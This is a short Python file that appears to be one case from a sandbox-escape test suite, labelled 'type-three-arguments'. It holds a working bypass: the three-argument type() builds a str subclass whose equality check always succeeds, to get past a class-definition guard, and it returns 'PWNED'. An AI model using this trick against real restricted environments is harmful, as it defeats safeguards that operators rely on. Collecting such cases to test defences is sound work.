# attack: type-three-arguments
# layer: language
# class: escape
# success: type(name, bases, body) makes a class past the class guard
def run():
    return "PWNED " + repr(type("T", (str,), {"__eq__": lambda a, b: True})())
